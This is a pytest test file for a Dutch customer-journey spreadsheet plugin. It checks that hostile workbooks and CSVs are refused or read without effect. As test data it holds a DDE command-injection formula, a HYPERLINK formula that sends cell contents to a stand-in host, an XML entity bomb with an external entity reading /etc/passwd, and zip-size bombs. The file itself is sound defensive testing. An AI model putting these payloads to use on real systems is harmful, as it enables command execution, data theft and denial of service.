"""Files that are made to do harm do nothing: no formula, link, macro or entity, no bomb, no request, and never a traceback."""

from __future__ import annotations

import datetime
import io
import socket
import tempfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.worksheet.formula import ArrayFormula

from klantreis_plugin.diagnostics import Diagnostic
from klantreis_plugin.messages import LANGUAGES, full
from klantreis_plugin.sheets import grids_of, take, text_of
from klantreis_plugin.sheets.grid import Cell, Grid, Span
from klantreis_plugin.sheets.reading import MAX_BYTES
from klantreis_plugin.sheets.workbook import MAX_COLUMNS

from .journeys import read

CASES = Path(__file__).parent / "cases"
MAP = (("Fase", "Ik a"), ("Fijn", "Rust"))
SHEET = "xl/worksheets/sheet1.xml"


def book(*rows: tuple[object, ...]) -> bytes:
    made = openpyxl.Workbook()
    assert made.active is not None
    made.active.title = "Kaart"
    for row in rows:
        made.active.append(row)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def repacked(data: bytes, change: Mapping[str, Callable[[bytes], bytes]], add: Mapping[str, bytes] = {}) -> bytes:
    """A workbook with some of its parts changed, and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change.get(name, bytes)(old.read(name)))
        for name, content in add.items():
            new.writestr(name, content)
    return out.getvalue()


def opened(tmp_path: Path, data: bytes, name: str = "blad.xlsx") -> tuple[Grid, ...] | Diagnostic:
    path = tmp_path / name
    path.write_bytes(data)
    return grids_of(path, name)


def grids(tmp_path: Path, data: bytes, name: str = "blad.xlsx") -> tuple[Grid, ...]:
    found = opened(tmp_path, data, name)
    assert not isinstance(found, Diagnostic), found
    return found


def refused(tmp_path: Path, data: bytes, name: str = "blad.xlsx") -> Diagnostic:
    found = opened(tmp_path, data, name)
    assert isinstance(found, Diagnostic), found
    return found


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> None:
        raise AssertionError("a request")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def test_formulas_are_not_worked_out(tmp_path: Path) -> None:
    array = ArrayFormula("B5:B5", "=SUM(1,2)")
    link = '=HYPERLINK("http://host.invalid/"&A1)'
    made = book(*MAP, ("Pijn", link), ("KPI", "Bezoek"), ("KPI: waarde", array), ("Denkt", "#REF!"))
    taken = take(grids(tmp_path, made), "nl")
    assert [(one.position.place, one.code) for one in taken.reports] == [
        ("Kaart!B3", "cel-formule"), ("Kaart!B5", "cel-formule"), ("Kaart!B6", "cel-formule"),
    ]  # fmt: skip
    text = text_of(taken.journey, "nl", "blad.xlsx")
    assert f"# Kaart!B3 Pijn: {link}" in text
    assert [phase.pains for phase in read(text)[0].phases] == [()]


@pytest.mark.parametrize("typed", ["=1+1", "=cmd|' /C calc'!A0", "#NAAM?", "#N/A"])
def test_nor_in_csv(tmp_path: Path, typed: str) -> None:
    taken = take(grids(tmp_path, f"Fase;Ik a\nFijn;{typed}\n".encode(), "blad.csv"), "nl")
    assert [one.code for one in taken.reports] == ["cel-formule"]
    assert f"# 2:2 Fijn: {typed}" in text_of(taken.journey, "nl", "blad.csv")


def test_the_guard_of_our_own_csv_is_taken_away(tmp_path: Path) -> None:
    taken = take(grids(tmp_path, b"Fase;Ik a\nFijn;'=leuk\nFijn;'s ochtends\n", "blad.csv"), "nl")
    assert read(text_of(taken.journey, "nl", "blad.csv"))[0].phases[0].gains == ("=leuk", "'s ochtends")


def test_links_macros_pictures_and_links_to_other_books_are_not_looked_at(tmp_path: Path) -> None:
    made = openpyxl.Workbook()
    assert made.active is not None
    for row in MAP:
        made.active.append(row)
    made.active["B2"].hyperlink = "http://host.invalid/"
    made.active["B2"].value = "Rust"
    out = io.BytesIO()
    made.save(out)
    external = b'<externalLink xmlns="x"><externalBook r:id="rId1"/></externalLink>'
    more = {
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
        "xl/media/image1.png": b"no picture",
        "xl/drawings/drawing1.xml": b"<broken",
        "xl/externalLinks/externalLink1.xml": external,
        "xl/connections.xml": b"<!DOCTYPE x>",
        "customXml/item1.xml": b"<!ENTITY",
        "docProps/custom.xml": b"<broken",
    }
    for name in ("blad.xlsx", "blad.xlsm"):
        [grid] = grids(tmp_path, repacked(out.getvalue(), {}, more), name)
        assert [[cell and cell.value for cell in row] for row in grid.rows] == [["Fase", "Ik a"], ["Fijn", "Rust"]]


def test_notes_and_hidden_sheets_are_told_of(tmp_path: Path) -> None:
    made = openpyxl.Workbook()
    kept, notes = made.active, made.create_sheet("Sessie 2")
    assert kept is not None
    for row in MAP:
        kept.append(row)
    kept["B2"].number_format = kept["C4"].number_format = '"€" 0.00'
    kept["B2"].value = 25
    letter = "[Threaded comment]\n\nLearn more: https://go.example/?linkid=870924\n\n"
    kept["D6"].comment = Comment(f"{letter}Comment:\n    drie weken", "Ann")
    notes.append(["Fase", "Ik a"])
    notes.sheet_state = "hidden"
    made.create_sheet("Leeg").sheet_state = "veryHidden"
    out = io.BytesIO()
    made.save(out)
    [grid] = grids(tmp_path, out.getvalue())
    assert grid.rows[1][1] == Cell(25, before="€ ")
    assert (grid.notes, len(grid.rows)) == ({(5, 3): "Comment:\n    drie weken"}, 6)
    assert [(one.position.place, one.code) for one in take([grid], "nl").reports] == [
        ("Sheet!D6", "cel-zonder-plek"), ("Sessie 2!A1", "werkblad-verborgen"),
    ]  # fmt: skip
    far = repacked(out.getvalue(), {"xl/comments/comment1.xml": lambda data: data.replace(b'"D6"', b'"D60000"')})
    assert dict(refused(tmp_path, far).facts)["cell"] == "Sheet!D60000"


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ('Fase;Ik a\nDoelen;"groot scherm;snel\nPijn;x\n', (2, 2)), ('Fase;"Ik\na";b\nDoelen;c;"Ja" zei hij;d\n', (3, 3)),
        ('sep=;\nFase;"Ik a\n', (2, 2)), ('Fase\t"Ik a', (1, 2)), ('"Fase,Ik a\nPijn,x', (1, 1)),
    ],
)  # fmt: skip
def test_a_quote_that_is_not_closed_is_said_where_it_opens(tmp_path: Path, text: str, place: tuple[int, int]) -> None:
    report = refused(tmp_path, text.encode(), "blad.csv")
    assert (report.code, (report.position.line, report.position.column)) == ("werkblad-aanhalingsteken", place)


@pytest.mark.parametrize("text", ['Fase;"Ik ""a"""\nPijn;"een\r\n\r\ntwee" ;drie "vier"\nFijn;""\n', 'Fase;Ik a\nPijn; "x"\r'])
def test_quotes_that_are_closed_are_read(tmp_path: Path, text: str) -> None:
    assert len(grids(tmp_path, text.encode(), "blad.csv")) == 1


@pytest.mark.parametrize(
    ("encoding", "words"), [("cp1252", ["café"]), ("mac-roman", ["cafŽ"]), ("cp850", ["caf‚"]), ("utf-8", []), ("utf-16", [])]
)
def test_an_encoding_that_is_guessed_is_told(tmp_path: Path, encoding: str, words: list[str]) -> None:
    [grid] = grids(tmp_path, "Fase;Ik\nPijn;één café\n".encode(encoding), "blad.csv")
    reports = take([grid], "nl").reports
    assert ({one.code for one in reports} - {"werkblad-tekens"}, [dict(one.facts)["word"] for one in reports]) == (set(), words)


BOMB = (
    '<?xml version="1.0"{}?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
    "<x>&b;&c;</x>"
)


def with_part(part: str, content: bytes) -> bytes:
    """A workbook of which one part, there or not, has this content."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book(*MAP))) as old, zipfile.ZipFile(out, "w") as new:
        for name in {*old.namelist(), part}:
            new.writestr(name, content if name == part else old.read(name))
    return out.getvalue()


@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "[Content_Types].xml"])
def test_entities_are_refused(tmp_path: Path, part: str) -> None:
    for bomb in (BOMB.format("").encode(), BOMB.format(' encoding="UTF-16"').encode("utf-16")):
        report = refused(tmp_path, with_part(part, bomb))
        assert (report.code, dict(report.facts)) == ("werkblad-onleesbaar", {"entities": part})


def sheet_of(content: str) -> bytes:
    """A workbook of which the sheet has this content in place of its own."""

    def changed(data: bytes) -> bytes:
        text = data.decode()
        start, end = text.index("<dimension"), text.index("</sheetData>")
        return (text[:start] + content + text[end:]).encode()

    return repacked(book(*MAP), {SHEET: changed})


def inline(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number: int, *cells: str) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


LARGEST = '<dimension ref="A1:XFD1048576"/><sheetData>'


def test_a_sheet_that_says_that_it_is_the_largest_there_is(tmp_path: Path) -> None:
    made = sheet_of(LARGEST + row(1, inline("A1", "Fase"), inline("B1", "Ik a")) + row(1_048_576, '<c r="XFD1048576"/>'))
    assert [len(grid.rows) for grid in grids(tmp_path, made)] == [1]


def bombs() -> dict[str, bytes]:
    """Files that grow, by what they grow in."""
    wide = "".join(row(number, f'<c r="XFD{number}"/>') for number in range(1, 2_000))
    return {
        "cel": sheet_of(LARGEST + row(1_048_576, inline("XFD1048576", "x"))),
        "breed": sheet_of(LARGEST + wide),
        "gepakt": sheet_of(LARGEST + " " * 4_000_000),
        "groot": repacked(book(*MAP), {}, {"xl/sharedStrings.xml": b"x" * 5_000_001}),
        "delen": repacked(book(*MAP), {}, {f"xl/media/{number}": b"" for number in range(2_001)}),
    }


@pytest.mark.parametrize("name", ["cel", "breed", "gepakt", "groot", "delen"])
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_bombs_are_refused(tmp_path: Path, name: str, golden: Callable[[Path, str], None]) -> None:
    report = refused(tmp_path, bombs()[name])
    for language, ending in zip(LANGUAGES, (".txt", ".en.txt"), strict=True):
        golden(CASES / "te-groot" / f"expected.{name}{ending}", full(report, {}, language) + "\n")


def test_a_part_that_lies_about_its_size_is_refused(tmp_path: Path) -> None:
    data = bytearray(sheet_of(LARGEST + " " * 4_000_000))
    for start in (b"PK\x01\x02", b"PK\x03\x04"):
        at = data.find(start)
        while at >= 0:
            field = at + (24 if start == b"PK\x01\x02" else 22)
            if int.from_bytes(data[field : field + 4], "little") > 1_000_000:
                data[field : field + 4] = (1_000).to_bytes(4, "little")
            at = data.find(start, at + 4)
    assert refused(tmp_path, bytes(data)).code == "werkblad-onleesbaar"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("blad.xlsx", b""), ("blad.xlsx", b"Fase;Ik a"), ("blad.xlsx", b"\xd0\xcf\x11\xe0" * 400),
        ("blad.xlsx", book(*MAP)[:-300]), ("blad.xls", b"\xd0\xcf\x11\xe0"), ("blad.ods", b"PK"), ("blad.csv", book(*MAP)),
        ("blad.csv", b"Fase;Ik\0a"),
        ("blad.csv", b"\xff\xfeF"), ("blad.csv", b"Fase;" + b"x" * 200_000),
    ],
)  # fmt: skip
def test_what_is_no_sheet_is_said_to_be_none(tmp_path: Path, name: str, data: bytes) -> None:
    assert refused(tmp_path, data, name).code == "werkblad-onleesbaar"


def test_files_that_are_too_large_are_not_opened(tmp_path: Path) -> None:
    for name in ("blad.xlsx", "blad.csv"):
        with (tmp_path / name).open("wb") as file:
            file.truncate(MAX_BYTES + 1)
        found = grids_of(tmp_path / name, name)
        assert isinstance(found, Diagnostic)
        assert found.code == "werkblad-te-groot"
    for wide in (b"Fase;" * 301, b"Fase\n" * 5_001):
        assert refused(tmp_path, wide, "blad.csv").code == "werkblad-te-groot"


def test_merged_cells_without_end_are_as_wide_as_a_sheet_and_count_once(tmp_path: Path) -> None:
    merged = b"".join(b'<mergeCell ref="B1:XFD%d"/>' % (number % 3 + 1) for number in range(3_000))
    parts = b"</sheetData><mergeCells>%s</mergeCells>" % merged
    made = repacked(book(*MAP), {SHEET: lambda data: data.replace(b"</sheetData>", parts)})
    assert sorted(grids(tmp_path, made)[0].spans, key=str) == [Span(0, 1, bottom, MAX_COLUMNS - 1) for bottom in range(3)]


GOOD = book(*MAP, ("KPI", "Bezoek"), ("KPI: waarde", 3.5), ("Activiteit", "a\nb"), ("Wanneer", datetime.date(2026, 1, 1)))


@settings(max_examples=60)
@given(st.lists(st.tuples(st.integers(0, len(GOOD) - 1), st.integers(0, 255)), min_size=1, max_size=20))
def test_whatever_is_broken_in_a_workbook_there_is_no_traceback(changes: list[tuple[int, int]]) -> None:
    data = bytearray(GOOD)
    for place, value in changes:
        data[place] = value
    tried(bytes(data), "xlsx")


PARTS = sorted(name for name in zipfile.ZipFile(io.BytesIO(GOOD)).namelist() if name.startswith("xl/"))


@settings(max_examples=60)
@given(st.sampled_from(PARTS), st.integers(0, 4_000), st.integers(0, 40), st.sampled_from([b"", b"<", b'"', b"9" * 400, b"\xff"]))
def test_nor_in_one_of_its_parts(part: str, start: int, length: int, instead: bytes) -> None:
    def changed(data: bytes) -> bytes:
        place = start % len(data)
        return data[:place] + instead + data[place + length :]

    tried(repacked(GOOD, {part: changed}), "xlsx")


@settings(max_examples=60)
@given(st.binary(max_size=200) | st.text("Fase;,\t\n\"'=-•★Kans1: ", max_size=80).map(str.encode))
def test_nor_in_a_csv(data: bytes) -> None:
    tried(b"Fase;Ik a\n" + data, "csv")


def tried(data: bytes, ending: str) -> None:
    """Read a file that may be broken, as far as it goes."""


    with tempfile.TemporaryDirectory() as folder:
        found = opened(Path(folder), data, f"blad.{ending}")
    if not isinstance(found, Diagnostic):
        taken = take(found, "nl")
        if taken.journey.lists:
            read(text_of(taken.journey, "nl", "blad"))
